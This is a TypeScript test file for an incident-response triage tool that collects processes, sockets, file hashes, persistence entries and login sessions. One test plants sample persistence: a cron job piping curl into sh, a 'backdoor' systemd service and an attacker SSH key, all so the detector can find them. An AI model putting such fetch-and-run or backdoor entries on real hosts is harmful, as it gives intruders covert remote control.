import { createServer } from 'node:net';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { collectPersistence, collectTriage, parseProcNet, parseUtmp } from '../index.ts';

const work = await mkdtemp(join(tmpdir(), 'cordon-triage-'));
afterAll(() => rm(work, { recursive: true, force: true }));

describe('collectTriage', () => {
  it('lists this process, its listening socket and the hashes asked for', async () => {
    const server = createServer();
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const port = (server.address() as { port: number }).port;
    const file = join(work, 'sample.bin');
    await writeFile(file, 'abc');
    try {
      const document = await collectTriage({ hashPaths: [file, join(work, 'missing')] });
      expect(document.processes.some((p) => p.pid === process.pid)).toBe(true);
      const listener = document.connections.find(
        (c) => c.protocol === 'tcp' && c.localPort === port,
      );
      expect(listener).toMatchObject({
        localAddress: '127.0.0.1',
        state: 'listen',
        pid: process.pid,
      });
      expect(document.hashes[0]).toEqual({
        path: file,
        size: 3,
        sha256: 'ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad',
      });
      expect(document.hashes[1]?.error).toMatch(/ENOENT/);
      expect(JSON.parse(JSON.stringify(document))).toEqual(document);
    } finally {
      server.close();
    }
  });

  it('finds cron, systemd and authorized_keys persistence under a root', async () => {
    const root = join(work, 'root');
    await mkdir(join(root, 'etc/cron.d'), { recursive: true });
    await mkdir(join(root, 'etc/systemd/system'), { recursive: true });
    await mkdir(join(root, 'home/alice/.ssh'), { recursive: true });
    await writeFile(
      join(root, 'etc/passwd'),
      'root:x:0:0::/root:/bin/sh\nalice:x:1000:1000::/home/alice:/bin/sh\n',
    );
    await writeFile(join(root, 'etc/cron.d/updater'), '* * * * * root curl x|sh\n');
    await writeFile(
      join(root, 'etc/systemd/system/backdoor.service'),
      '[Service]\nExecStart=/tmp/x\n',
    );
    await writeFile(join(root, 'home/alice/.ssh/authorized_keys'), 'ssh-ed25519 AAAA attacker\n');
    const found = await collectPersistence(root);
    expect(found.map((f) => [f.kind, f.path.slice(root.length)]).sort()).toEqual([
      ['authorized_keys', '/home/alice/.ssh/authorized_keys'],
      ['cron', '/etc/cron.d/updater'],
      ['systemd', '/etc/systemd/system/backdoor.service'],
    ]);
  });
});

describe('socket and login tables', () => {
  it('decodes /proc/net lines for IPv4 and IPv6', () => {
    const v4 = parseProcNet(
      '  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n' +
        '   0: 0100007F:1F90 0A00120C:D431 01 00000000:00000000 00:00000000 00000000  1000        0 12345 1\n',
      'tcp',
    );
    expect(v4[0]).toMatchObject({
      localAddress: '127.0.0.1',
      localPort: 8080,
      remoteAddress: '12.18.0.10',
      remotePort: 54321,
      state: 'established',
      uid: 1000,
      inode: 12345,
    });
    const v6 = parseProcNet(
      'header\n   0: D0C000FD000000000000000001000000:0016 00000000000000000000000000000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 777 1\n',
      'tcp6',
    );
    expect(v6[0]).toMatchObject({
      localAddress: 'fd00:c0d0::1',
      localPort: 22,
      remoteAddress: '::',
      state: 'listen',
    });
  });

  it('reads user sessions from utmp records and ignores the rest', () => {
    const buffer = Buffer.alloc(384 * 2);
    buffer.writeInt32LE(2, 0); // BOOT_TIME
    buffer.writeInt32LE(7, 384);
    buffer.writeInt32LE(4242, 388);
    buffer.write('pts/3', 384 + 8);
    buffer.write('mallory', 384 + 44);
    buffer.write('198.18.0.200', 384 + 76);
    buffer.writeInt32LE(1_800_000_000, 384 + 340);
    expect(parseUtmp(buffer)).toEqual([
      {
        user: 'mallory',
        terminal: 'pts/3',
        host: '198.18.0.200',
        pid: 4242,
        loginAt: '2027-01-15T08:00:00.000Z',
      },
    ]);
  });
});
